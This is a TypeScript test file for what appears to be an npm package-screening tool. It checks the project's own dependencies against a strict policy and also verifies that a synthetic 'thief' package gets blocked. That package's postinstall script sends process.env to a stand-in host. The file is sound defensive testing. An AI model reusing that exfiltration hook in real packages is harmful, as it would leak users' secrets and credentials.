import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { parse } from 'yaml'
import { readArchive } from '../../src/archive/read.ts'
import { CHECKS } from '../../src/checks/all.ts'
import { judgedFacts } from '../../src/inspection/claims.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sampleArtifact } from '../checks/sample-artifact.ts'
import { sha256 } from '../../src/model/digest.ts'
import { isServed, type RuleHit, type Verdict } from '../../src/model/verdict.ts'
import type { Waiver } from '../../src/model/waiver.ts'
import { decide } from '../../src/policy/decide.ts'
import { loadPolicy } from '../../src/policy/load.ts'
import { npmTarball } from '../registry/build.ts'
import { archiveOf, productionTree, type OwnPackage } from './own-tree.ts'

/** Law 10. `.ci/run` asks for it, after `npm ci` has filled npm's cache; elsewhere the archives may not be there. */
const skip = process.env['LAZARET_TEST_OWN_TREE'] === undefined && 'asked for by LAZARET_TEST_OWN_TREE=1, after npm ci'

/** Our production tree had this many packages when this was written; far fewer would mean that they were not found. */
const PACKAGES_MIN = 60

const EVERY = 'npm:*'

interface Reviewed {
  readonly match: string
  readonly rules: readonly string[]
  readonly reason: string
  readonly until: string
}

const read = (file: string): string => readFileSync(join(import.meta.dirname, file), 'utf8')
const { waivers: reviewed } = parse(read('own-tree.yaml')) as { waivers: readonly Reviewed[] }
const loaded = loadPolicy(read('../../policies/strict.yaml'), 'strict.yaml', {
  knownChecks: CHECKS.map((check) => check.id),
})
if (!loaded.ok) throw new Error(loaded.problems[0]?.message)
const strict = loaded.policy

/** The waivers of a person for this package, out of the entries that mean it. */
function waiversOf({ name, version }: OwnPackage): readonly Waiver[] {
  return reviewed.flatMap(({ match, rules, reason, until }, index) =>
    match === EVERY || match === `npm:${name}@${version}`
      ? [
          {
            id: String(index),
            registry: '*',
            scope: { kind: 'version', ecosystem: 'npm', name, version },
            rules,
            reason,
            by: 'review',
            at: '2026-11-24T00:00:00.000Z',
            until: new Date(until).toISOString(),
          } satisfies Waiver,
        ]
      : [],
  )
}

/** Strict's verdict on an archive of which no registry was asked: what only it knows is unknown. */
async function judged(path: string, own: OwnPackage): Promise<Verdict> {
  const filename = `${own.name.split('/').at(-1)}-${own.version}.tgz`
  const artifact = sampleArtifact('npm-tarball', { name: own.name, version: own.version, filename, url: '' })
  const digest = sha256(readFileSync(path))
  const reading = await readArchive(path, 'npm-tarball')
  const facts = await inspect(reading, { digest, readAs: 'npm-tarball' })
  const now = new Date().toISOString()
  const input = {
    registry: 'npm',
    artifact,
    firstSeenAt: now,
    package: {
      firstPublishedAt: null,
      maintainers: null,
      formerMaintainers: null,
      upstreamStatus: 'active',
      versionCount: 1,
    },
    content: { digest, facts: judgedFacts(facts, artifact, 'verified'), previous: { kind: 'unknown' } },
  } as const
  return decide(strict, input, {
    now,
    mode: 'enforce',
    waivers: waiversOf(own),
    rejections: [],
    freezes: [],
    outbreaks: [],
  })
}

const told = (hits: readonly RuleHit[]): string =>
  hits
    .filter((hit) => !isServed(hit.outcome) && hit.waivedBy.length === 0)
    .map((hit) => `${hit.outcome} by ${hit.rule}: ${hit.message}`)
    .join('; ')

t.test('our own production dependencies pass our strict policy', { skip }, async (t) => {
  const { packages, absent } = productionTree()
  t.ok(packages.length >= PACKAGES_MIN, `${packages.length} packages were found`)
  t.comment(`not judged, since npm does not install them here: ${absent.join(', ')}`)
  const used = new Set<string>()
  const beyond: string[] = []
  for (const own of packages) {
    const path = archiveOf(own.integrity)
    if (path === undefined) {
      t.fail(`${own.name}@${own.version} is not in npm's cache`)
      continue
    }
    const { outcome, hits } = await judged(path, own)
    t.ok(isServed(outcome), `${own.name}@${own.version} ${isServed(outcome) ? 'passes' : told(hits)}`)
    for (const { rule, unknown, waivedBy } of hits) {
      for (const id of waivedBy) used.add(id)
      const isForAll = waivedBy.some((id) => reviewed[Number(id)]?.match === EVERY)
      if (isForAll && unknown === undefined && rule !== 'unknown-age') beyond.push(`${own.name}: ${rule}`)
    }
  }
  t.same(beyond, [], 'what is waived for every package is unknown of it')
  for (const [index, { match }] of reviewed.entries()) t.ok(used.has(String(index)), `${match} is still needed`)
})

t.test(
  'the control sees: a package that steals is refused under the same policy and the same waivers',
  { skip },
  async (t) => {
    const { bytes } = npmTarball({
      name: 'thief',
      version: '1.0.0',
      scripts: { postinstall: 'node collect.js' },
      files: {
        'collect.js': "fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) })\n",
      },
    })
    const path = join(t.testdir({}), 'thief-1.0.0.tgz')
    writeFileSync(path, bytes)
    const { outcome, deciding } = await judged(path, { name: 'thief', version: '1.0.0', integrity: '' })
    t.equal(outcome, 'block')
    t.ok(deciding.includes('exfiltration'), deciding.join(', '))
  },
)
